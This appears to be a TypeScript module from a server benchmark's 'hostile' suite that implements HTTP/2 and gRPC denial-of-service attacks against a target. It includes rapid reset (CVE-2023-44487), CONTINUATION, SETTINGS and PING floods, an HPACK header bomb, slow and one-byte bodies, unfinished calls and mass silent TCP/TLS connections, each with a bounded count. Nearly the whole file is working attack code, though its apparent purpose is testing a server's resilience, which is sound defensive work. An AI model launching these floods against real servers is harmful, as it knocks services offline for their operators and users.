/**
 * What peers do to doors, each bounded in count and time. `npm run bench -- hostile` runs the same list.
 *
 * An attack begins, goes on beside the victim, and says when it is done; it throws where it cannot begin, and never later.
 */

import type { Socket } from 'node:net';
import { FLAG, FRAME, fields, frame, integer, RawHttp2, requestFields, text, connectTo } from './raw-http2';
import type { Target } from './target';

export interface Attack {
  readonly name: string;
  /** @returns the connections that it holds open, for whoever wants to see what became of them. */
  begin(target: Target): Promise<RunningAttack>;
}

export interface RunningAttack {
  /** Resolves when everything is sent. */
  readonly sent: Promise<unknown>;
  /** How many of its connections the server has not closed. */
  open(): number;
  end(): void;
}

const MIB = 1024 * 1024;

/** gRPC's message head (uncompressed) for so many bytes that are to come. */
function messageHead(bytes: number): Buffer {
  const head = Buffer.alloc(5);
  head.writeUInt32BE(bytes, 1);
  return head;
}

async function onConnections(
  target: Target,
  count: number,
  attack: (raw: RawHttp2) => Promise<unknown>,
): Promise<RunningAttack> {
  const all = await Promise.all(Array.from({ length: count }, () => RawHttp2.open(target)));
  const greeted = await Promise.all(all.map((raw) => raw.greeted));
  if (greeted.includes(false)) throw new Error(`the attack does not get as far as the door: ${target.name}`);
  return {
    sent: Promise.all(all.map(attack)),
    open: () => all.filter((raw) => raw.isOpen).length,
    end: () => all.forEach((raw) => raw.destroy()),
  };
}

/** Calls whose last byte never comes. */
export function unfinishedCalls(calls: number, bytes: number): Attack {
  return {
    name: `${calls} unfinished calls of ${(bytes / MIB).toFixed(1)} MiB`,
    begin: (target) =>
      onConnections(target, 1, async (raw) => {
        raw.send(frame(FRAME.WINDOW_UPDATE, 0, 0, Buffer.from([0x7f, 0xff, 0, 0])));
        const chunk = Buffer.alloc(16_384, 0x61);
        for (let call = 0; call < calls && raw.isOpen; call++) {
          const stream = 2 * call + 1;
          raw.send(frame(FRAME.HEADERS, FLAG.END_HEADERS, stream, requestFields(target)));
          raw.send(frame(FRAME.DATA, 0, stream, messageHead(bytes + 100)));
          await raw.flood(
            Math.floor(bytes / chunk.byteLength),
            () => frame(FRAME.DATA, 0, stream, chunk),
            16,
          );
        }
      }),
  };
}

/** Connections that say nothing, after their handshake or instead of it. */
export function silentConnections(count: number, handshake: boolean): Attack {
  return {
    name: `${count} silent ${handshake ? 'TLS' : 'TCP'} connections`,
    async begin(target) {
      const to = handshake ? target : { ...target, tls: undefined };
      const all: Socket[] = [];
      // Not more at once than a listener's queue holds: the rest would be connections to this side only.
      while (all.length < count)
        all.push(
          ...(await Promise.all(
            Array.from({ length: Math.min(250, count - all.length) }, () => connectTo(to)),
          )),
        );
      const open = () => all.filter((socket) => !socket.destroyed && socket.readable).length;
      all.forEach((socket) => socket.on('error', () => undefined).resume());
      return { sent: Promise.resolve(), open, end: () => all.forEach((socket) => socket.destroy()) };
    },
  };
}

/** CVE-2023-44487: requests taken back as soon as they are made. */
export const rapidReset: Attack = {
  name: 'rapid reset',
  begin: (target) =>
    onConnections(target, 4, (raw) =>
      raw.flood(20_000, (index) => {
        const stream = 2 * index + 1;
        return Buffer.concat([
          frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, stream, requestFields(target)),
          frame(FRAME.RST_STREAM, 0, stream, Buffer.from([0, 0, 0, 8])),
        ]);
      }),
    ),
};

/** CVE-2024-27983: headers that never end. */
export const continuationFlood: Attack = {
  name: 'CONTINUATION flood',
  begin: (target) =>
    onConnections(target, 4, async (raw) => {
      raw.send(frame(FRAME.HEADERS, 0, 1, requestFields(target)));
      const more = frame(FRAME.CONTINUATION, 0, 1, fields([['x-more', 'm'.repeat(4_000)]]));
      await raw.flood(5_000, () => more);
    }),
};

/** CVE-2019-9515: settings, each of which is to be acknowledged. */
export const settingsFlood: Attack = {
  name: 'SETTINGS flood',
  begin: (target) =>
    onConnections(target, 4, (raw) => {
      raw.socket.pause();
      return raw.flood(50_000, () => frame(FRAME.SETTINGS, 0, 0, Buffer.from([0, 4, 0, 1, 0, 0])));
    }),
};

/** CVE-2019-9512: pings, each of which is to be answered, by somebody who does not read. */
export const pingFlood: Attack = {
  name: 'PING flood',
  begin: (target) =>
    onConnections(target, 4, (raw) => {
      raw.socket.pause();
      return raw.flood(50_000, () => frame(FRAME.PING, 0, 0, Buffer.alloc(8)));
    }),
};

/** CVE-2016-6581: one long header in the table, named thousands of times in each request. */
export const headerBomb: Attack = {
  name: 'header bomb',
  begin: (target) =>
    onConnections(target, 4, async (raw) => {
      const name = 'x-bomb';
      // HPACK (RFC 7541 §6.2.1): a literal with indexing becomes entry 62.
      const stored = Buffer.concat([Buffer.from([0x40]), text(name), text('b'.repeat(3_900))]);
      raw.send(
        frame(
          FRAME.HEADERS,
          FLAG.END_HEADERS | FLAG.END_STREAM,
          1,
          Buffer.concat([requestFields(target), stored]),
        ),
      );
      const references = Buffer.concat(Array.from({ length: 4_000 }, () => integer(62, 7, 0x80)));
      const bomb = Buffer.concat([requestFields(target), references]);
      await raw.flood(
        1_000,
        (index) => frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, 2 * index + 3, bomb),
        10,
      );
    }),
};

/** Bodies that come a byte at a time. */
export const slowBodies: Attack = {
  name: 'slow bodies',
  async begin(target) {
    let isOver = false;
    const running = await onConnections(target, 4, async (raw) => {
      const streams = Array.from({ length: 100 }, (_, index) => 2 * index + 1);
      for (const stream of streams) {
        raw.send(
          frame(
            FRAME.HEADERS,
            FLAG.END_HEADERS,
            stream,
            requestFields(target, [['content-length', '50000']]),
          ),
        );
        raw.send(frame(FRAME.DATA, 0, stream, messageHead(49_995)));
      }
      while (!isOver && raw.isOpen) {
        for (const stream of streams) raw.send(frame(FRAME.DATA, 0, stream, Buffer.from('a')));
        await new Promise((resolve) => setTimeout(resolve, 100));
      }
    });
    return {
      ...running,
      end() {
        isOver = true;
        running.end();
      },
    };
  },
};

/** Bodies in frames of a byte, as fast as they are taken: ten bytes on the wire for each. */
export const smallFrames: Attack = {
  name: 'frames of one byte',
  begin: (target) =>
    onConnections(target, 4, async (raw) => {
      for (let call = 0; call < 100 && raw.isOpen; call++) {
        const stream = 2 * call + 1;
        raw.send(frame(FRAME.HEADERS, FLAG.END_HEADERS, stream, requestFields(target)));
        raw.send(frame(FRAME.DATA, 0, stream, messageHead(10_000)));
        const one = frame(FRAME.DATA, 0, stream, Buffer.from('a'));
        await raw.flood(1_000, () => one);
      }
    }),
};

/** What needs nothing but a connection. */
export const FLOODS: readonly Attack[] = [
  ...[rapidReset, continuationFlood, settingsFlood, pingFlood, headerBomb, slowBodies, smallFrames],
];

export const ATTACKS: readonly Attack[] = [
  unfinishedCalls(150, 3.9 * MIB),
  silentConnections(230, true),
  silentConnections(230, false),
  ...FLOODS,
];
